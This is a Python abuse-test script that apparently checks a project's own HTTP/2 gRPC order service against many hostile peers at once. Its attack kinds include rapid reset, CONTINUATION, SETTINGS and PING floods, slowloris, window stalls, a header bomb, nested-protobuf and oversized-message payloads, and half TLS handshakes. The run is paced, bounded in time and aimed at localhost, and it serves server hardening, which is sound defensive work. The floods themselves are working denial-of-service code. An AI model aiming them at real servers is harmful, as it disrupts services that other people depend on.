#!/usr/bin/python3
"""Hostile peers, many at once: each connection makes one kind of attack until it is cut off, and comes again. Bounded in time and in pace.

usage: tests/abuse/attack.py PORT [--seconds=10] [--connections=50] [--pace-ms=20] [--ca=FILE]     over TLS with --ca; ends with a line of JSON: rounds, cuts and bytes by kind, CPU seconds
       tests/abuse/attack.py 0 --burn=0.3 [--seconds=10]                                            no attack: that share of a CPU, in pieces of the same pace

pace: what a connection sends at once (some KiB) is followed by so long a pause. So the attackers' own CPU stays a stated share of a machine that honest load and server run on as well."""
import json
import os
import resource
import ssl
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2raw as h  # noqa: E402

CREATE, GET, LIST = h.SERVICE + "CreateOrder", h.SERVICE + "GetOrder", h.SERVICE + "ListOrders"


def varint(n):
    out = bytearray()
    while n >= 128:
        out.append(n & 127 | 128)
        n >>= 7
    return bytes(out) + bytes((n,))


DEEP = b"\x0a" + varint(8000) + b"\xfb\x07" * 2000 + b"\xfc\x07" * 2000  # groups (of an unknown field) within groups, in the order
EMPTY_PARTS = b"\x0a" + varint(3900000) + b"\xa2\x01\x00" * 1300000
LONG = h.literal("x", "v" * 3000, indexed=True)


# Each kind is a generator of what to send next; h2 ones begin on a connection whose preface is out. A yield of None is one more pause.
def rapid_reset(_w):
    for stream in range(1, 1 << 30, 80):
        yield b"".join(h.frame(h.HEADERS, h.END_HEADERS, s, h.block(GET)) + h.rst(s) for s in range(stream, stream + 80, 2))


def made_reset(_w):
    for stream in range(1, 1 << 30, 80):
        yield b"".join(h.frame(h.HEADERS, h.END_HEADERS, s, h.block(GET)) + h.window_update(s, 0x7fffffff) for s in range(stream, stream + 80, 2))


def continuation(_w):
    yield h.frame(h.HEADERS, 0, 1, h.block(GET))
    while True:
        yield h.frame(h.CONTINUATION, 0, 1, b"") * 50


def settings(_w):
    while True:
        yield h.settings((h.INITIAL_WINDOW_SIZE, 65535), (h.HEADER_TABLE_SIZE, 4096)) * 100


def pings(_w):
    while True:
        yield h.ping() * 100


def empty_data(_w):
    yield h.frame(h.HEADERS, h.END_HEADERS, 1, h.block(CREATE))
    while True:
        yield h.frame(h.DATA, 0, 1) * 200


def zero_window(_w):
    yield h.settings((h.INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 200, 2):
        yield h.request(stream, LIST, b"\x0a\x02u1")
    while True:
        yield None


def byte_in(_w):
    yield b"".join(h.frame(h.HEADERS, h.END_HEADERS, s, h.block(CREATE)) + h.data(s, h.message(b"", length=4 << 20), end=False) for s in range(1, 100, 2))
    while True:
        for _ in range(50):
            yield None
        yield b"".join(h.frame(h.DATA, 0, s, b"\x0a") for s in range(1, 100, 2))


def byte_out(_w):
    yield h.settings((h.INITIAL_WINDOW_SIZE, 1))
    yield b"".join(h.request(s, LIST, b"\x0a\x02u1") for s in range(1, 100, 2))
    while True:
        for _ in range(50):
            yield None
        yield b"".join(h.window_update(s, 1) for s in range(1, 100, 2))


def deaf(_w):
    yield h.settings((h.INITIAL_WINDOW_SIZE, 0x7fffffff)) + h.window_update(0, 0x7fff0000)
    for stream in range(1, 1 << 30, 20):
        yield b"".join(h.request(s, LIST, b"\x0a\x02u1") for s in range(stream, stream + 20, 2))


def header_bomb(_w):
    yield h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, 1, h.block(GET) + LONG + b"\xbe" * 10000)
    while True:
        yield None


def deep(w):
    for stream in range(1, 1 << 30, 2):
        w.upload(stream, CREATE, DEEP, 5)
        w.sent_bytes += len(DEEP)
        yield None


def empty_parts(w):
    for stream in range(1, 1 << 30, 2):
        w.upload(stream, CREATE, EMPTY_PARTS, 5)
        w.sent_bytes += len(EMPTY_PARTS)
        for _ in range(50):
            yield None


def long_prefix(_w):
    for stream in range(1, 1 << 30, 40):
        yield b"".join(h.frame(h.HEADERS, h.END_HEADERS, s, h.block(CREATE)) + h.data(s, h.message(b"", length=0xffffffff)) for s in range(stream, stream + 40, 2))


def loris(_w):
    for byte in h.frame(h.HEADERS, h.END_HEADERS, 1, h.block(GET)):
        yield bytes((byte,))
        for _ in range(50):
            yield None


def raw_half_handshake(_w):
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    while True:
        yield None


def raw_silent(_w):
    while True:
        yield None


KINDS = [rapid_reset, made_reset, continuation, settings, pings, empty_data, zero_window, byte_in, byte_out, deaf, header_bomb, deep, empty_parts, long_prefix, loris, raw_half_handshake, raw_silent]
# These say nothing but what they are made of: an acknowledgement in the middle would end them too soon. One does not even read.
MUTE = {continuation, loris, raw_half_handshake, raw_silent}
DEAF = {deaf}


def attack(kind, number, port, tls, end, pace_s, told):
    """Connects again and again until the end. A connection is given up after 15 s: then the server did not mind it."""
    told = told.setdefault(kind.__name__, {"rounds": 0, "cut": 0, "bytes": 0, "refused": 0})
    raw = kind.__name__.startswith("raw_")
    while time.monotonic() < end:
        try:
            w = h.Wire(port, source="127.0.1.%d" % (1 + number % 200), tls=None if raw else tls, raw=raw, wait_s=5)
        except OSError:
            told["refused"] += 1
            time.sleep(10 * pace_s)
            continue
        told["rounds"] += 1
        w.sent_bytes = 0
        w.wait_s = 1
        w.socket.settimeout(1)
        until = min(end, time.monotonic() + 15)
        for bytes_ in kind(w):
            if bytes_ and w.send(bytes_):
                told["bytes"] += len(bytes_)
            time.sleep(pace_s)
            if kind not in DEAF:
                for _ in w.frames(0, acknowledge=kind not in MUTE):
                    pass
            if w.closed or time.monotonic() > until:
                break
        told["cut"] += w.closed
        told["bytes"] += w.sent_bytes
        w.close()
        time.sleep(5 * pace_s)


def burn(share, end, pace_s):
    while time.monotonic() < end:
        begin = time.thread_time()
        while time.thread_time() - begin < share * pace_s:
            pass
        time.sleep((1 - share) * pace_s)


def option(name, kind, default):
    return next((kind(a.split("=", 1)[1]) for a in sys.argv if a.startswith("--%s=" % name)), default)


def main():
    port, end, pace_s, told = int(sys.argv[1]), time.monotonic() + option("seconds", float, 10), option("pace-ms", float, 20) / 1000, {}
    tls = None
    if option("ca", str, ""):
        tls = ssl.create_default_context(cafile=option("ca", str, ""))
        tls.set_alpn_protocols(["h2"])
    if not port:
        burn(option("burn", float, 0.3), end, pace_s)
    else:
        count = option("connections", int, 50)
        threads = [threading.Thread(target=attack, args=(KINDS[i % len(KINDS)], i, port, tls, end, pace_s, told)) for i in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    used = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({"kinds": told, "cpu_s": round(used.ru_utime + used.ru_stime, 2)}))


if __name__ == "__main__":
    main()
